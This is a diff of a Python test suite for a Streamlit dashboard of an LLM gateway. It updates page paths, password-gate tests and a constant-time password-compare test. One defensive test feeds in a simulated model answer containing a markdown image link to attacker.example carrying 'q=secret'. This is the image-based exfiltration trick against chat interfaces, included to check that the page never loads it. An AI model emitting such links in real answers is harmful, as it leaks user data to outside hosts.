@@ -16,7 +16,9 @@ from db.faults import get_faults
 from tests.configs import two_providers
 
 REPO = Path(__file__).resolve().parents[2]
-ENTRY = str(REPO / "streamlit_app.py")
+# The entry is not beside pages/ (see dashboard/entry.py), so page paths for at.switch_page(),
+# which are relative to the entry, start with "../pages/".
+ENTRY = str(REPO / "dashboard" / "entry.py")
 REAL_PRIMARY = two_providers(primary="real", fallback="real")
 
 
@@ -100,11 +102,11 @@ def test_every_page_renders_without_exception(env):
     at = open_app()
     assert at.title[0].value == "Overview"
     for page, title in [
-        ("pages/playground.py", "Playground"),
-        ("pages/canary.py", "Canary control"),
-        ("pages/monitor.py", None),
-        ("pages/kv_calculator.py", None),
-        ("pages/overview.py", "Overview"),
+        ("../pages/playground.py", "Playground"),
+        ("../pages/canary.py", "Canary control"),
+        ("../pages/monitor.py", None),
+        ("../pages/kv_calculator.py", None),
+        ("../pages/overview.py", "Overview"),
     ]:
         at.switch_page(page).run()
         assert not at.exception, page
@@ -144,7 +146,7 @@ def test_password_gate_on_every_page_and_actor_recorded(env, monkeypatch, via):
     at.text_input[1].set_value("s3cret")
     at.button[0].click().run()
     assert not at.exception and at.title[0].value == "Overview"
-    at.switch_page("pages/canary.py").run()
+    at.switch_page("../pages/canary.py").run()
     at.number_input(key="canary_pct").set_value(30)
     at.text_input(key="canary_reason").set_value("gated change")
     button(at, "Apply").click().run()
@@ -152,9 +154,9 @@ def test_password_gate_on_every_page_and_actor_recorded(env, monkeypatch, via):
     assert "s3cret" not in texts(at)
 
 
-def test_direct_page_runs_are_still_gated(tmp_path, monkeypatch):
-    """Without the steady-state patch AppTest runs page scripts without the entry (as a fresh server
-    does for a page URL); page_setup() must send those runs through the entry and its gate."""
+def test_first_run_of_a_page_url_is_gated(tmp_path, monkeypatch):
+    """Every page, however it is reached (here: switched to before signing in), is drawn by the
+    entry after its password gate, never run on its own."""
     cfg = tmp_path / "gateway.toml"
     cfg.write_text((REPO / "gateway.toml").read_text())
     monkeypatch.setenv("GATEWAY_CONFIG", str(cfg))
@@ -163,7 +165,7 @@ def test_direct_page_runs_are_still_gated(tmp_path, monkeypatch):
     _clear_caches()
     try:
         at = AppTest.from_file(ENTRY, default_timeout=30).run()
-        for page in ("pages/canary.py", "pages/playground.py", "pages/overview.py"):
+        for page in ("../pages/canary.py", "../pages/playground.py", "../pages/monitor.py", "../pages/overview.py"):
             at.switch_page(page).run()
             assert not at.exception
             assert at.title[0].value == "Sign in" and not at.metric and not at.number_input
@@ -171,13 +173,31 @@ def test_direct_page_runs_are_still_gated(tmp_path, monkeypatch):
         _clear_caches()
 
 
-def test_password_check_is_constant_time_compare():
-    import inspect
-
+@pytest.mark.parametrize(
+    "given",
+    ["", "s3cre", "s3cret ", "S3CRET", "s3cret\n", "s3crét", "s3cret-and-more"],
+)
+def test_wrong_passwords_are_refused(given):
     from ui import auth
 
-    assert "hmac.compare_digest" in inspect.getsource(auth.check_password)
-    assert auth.check_password("abc", "abc") and not auth.check_password("abd", "abc")
+    assert auth.check_password(given, "s3cret") is False
+
+
+def test_right_password_is_accepted_through_a_constant_time_compare(monkeypatch):
+    from ui import auth
+
+    calls = []
+    real = auth.hmac.compare_digest
+
+    def spy(a, b):
+        calls.append((type(a), type(b)))
+        return real(a, b)
+
+    monkeypatch.setattr(auth.hmac, "compare_digest", spy)
+    assert auth.check_password("s3crét", "s3crét") is True
+    assert auth.check_password("s3cret", "s3crét") is False
+    # Both comparisons went through hmac.compare_digest, on bytes (str would refuse non-ASCII).
+    assert calls == [(bytes, bytes), (bytes, bytes)]
 
 
 def test_keys_are_never_displayed(env, monkeypatch):
@@ -254,7 +274,7 @@ def _rows(where: str = "1=1") -> list:
 
 
 def test_playground_streams_an_answer_with_its_metadata_and_log_row(any_env):
-    at = open_app("pages/playground.py")
+    at = open_app("../pages/playground.py")
     at.chat_input[0].set_value("Write a python function that reverses a list").run()
     assert not at.exception
     assert at.chat_message[0].markdown[0].value == "Write a python function that reverses a list"
@@ -281,7 +301,7 @@ def test_playground_never_loads_images_from_model_output(env, monkeypatch):
 
     evil = "Sure. ![pixel](https://attacker.example/p.png?q=secret) [docs](https://example.com)"
     monkeypatch.setattr(sim_server, "compose_answer", lambda *args, **kwargs: Answer(evil, "stop"))
-    at = open_app("pages/playground.py")
+    at = open_app("../pages/playground.py")
     at.chat_input[0].set_value("hi").run()
     assert not at.exception
     shown = at.chat_message[1].markdown[0].value
@@ -291,7 +311,7 @@ def test_playground_never_loads_images_from_model_output(env, monkeypatch):
 
 
 def test_playground_settings_reach_the_router(env):
-    at = open_app("pages/playground.py")
+    at = open_app("../pages/playground.py")
     at.selectbox[0].set_value("gpt-4.1")
     at.text_area[0].set_value("Answer in one line.")
     at.slider[0].set_value(0.2)
@@ -303,7 +323,7 @@ def test_playground_settings_reach_the_router(env):
 
 
 def test_playground_compare_mode_runs_both_routes(env):
-    at = open_app("pages/playground.py")
+    at = open_app("../pages/playground.py")
     at.toggle[0].set_value(True)
     at.chat_input[0].set_value("Summarise canary rollouts").run()
     assert not at.exception
@@ -316,7 +336,7 @@ def test_playground_compare_mode_runs_both_routes(env):
 
 def test_playground_missing_key_is_a_clear_message_with_the_fix(env):
     env.config.write_text(REAL_PRIMARY + "\n[simulator]\nlatency_scale = 0\n")
-    at = open_app("pages/playground.py")
+    at = open_app("../pages/playground.py")
     set_ratio(engine(), 1.0, expected_version=None, actor="t", reason="primary first, then the fallback")
     at.chat_input[0].set_value("hello").run()
     assert not at.exception
@@ -328,7 +348,7 @@ def test_playground_missing_key_is_a_clear_message_with_the_fix(env):
 def test_playground_unknown_model_is_a_clear_message(env, monkeypatch):
     import app.catalog
 
-    at = open_app("pages/playground.py")
+    at = open_app("../pages/playground.py")
     # The selector only offers catalog models; a model removed from the catalog mid-session is the
     # way an unknown model reaches the router from the page.
     at.selectbox[0].set_value("gpt-4.1").run()
@@ -348,7 +368,7 @@ def test_playground_unknown_model_is_a_clear_message(env, monkeypatch):
 
 
 def test_canary_apply_writes_audits_and_keeps_slider_in_step(any_env):
-    at = open_app("pages/canary.py")
+    at = open_app("../pages/canary.py")
     assert at.number_input(key="canary_pct").label == "Canary ratio (%)"
     assert at.number_input(key="canary_pct").value == 10.0 and at.slider(key="canary_pct_slider").value == 10.0
     at.number_input(key="canary_pct").set_value(25).run()
@@ -381,7 +401,7 @@ def test_canary_apply_writes_audits_and_keeps_slider_in_step(any_env):
     ],
 )
 def test_canary_bad_input_is_refused_and_nothing_written(env, value, reason, message):
-    at = open_app("pages/canary.py")
+    at = open_app("../pages/canary.py")
     before = get_state(engine())
     at.number_input(key="canary_pct").set_value(value)
     at.text_input(key="canary_reason").set_value(reason)
@@ -392,7 +412,7 @@ def test_canary_bad_input_is_refused_and_nothing_written(env, value, reason, mes
 
 
 def test_canary_actor_from_sidebar_name(env):
-    at = open_app("pages/canary.py")
+    at = open_app("../pages/canary.py")
     at.sidebar.text_input(key="actor_name").set_value("carol").run()
     at.number_input(key="canary_pct").set_value(5)
     at.text_input(key="canary_reason").set_value("narrow")
@@ -401,7 +421,7 @@ def test_canary_actor_from_sidebar_name(env):
 
 
 def test_canary_stale_apply_is_refused_saying_who_changed_it(env):
-    at = open_app("pages/canary.py")
+    at = open_app("../pages/canary.py")
     set_ratio(engine(), 0.4, expected_version=None, actor="bob", reason="other tab")
     at.number_input(key="canary_pct").set_value(90)
     at.text_input(key="canary_reason").set_value("mine")
@@ -419,7 +439,7 @@ def test_canary_stale_apply_is_refused_saying_who_changed_it(env):
 
 
 def test_canary_quick_actions_need_confirmation(env):
-    at = open_app("pages/canary.py")
+    at = open_app("../pages/canary.py")
     button(at, "Roll back to 0 %").click().run()
     assert get_state(engine()).ratio == 0.1  # nothing yet
     assert "Confirm?" in at.warning[0].value
@@ -449,7 +469,7 @@ def _client_without_background_guardrail():
 def test_guardrail_and_fault_injection_rehearse_an_outage(env):
     from app.guardrail import check_guardrail
 
-    at = open_app("pages/canary.py")
+    at = open_app("../pages/canary.py")
     form = at.get("form")
     at.toggle[0].set_value(True)
     threshold, window, minimum = [
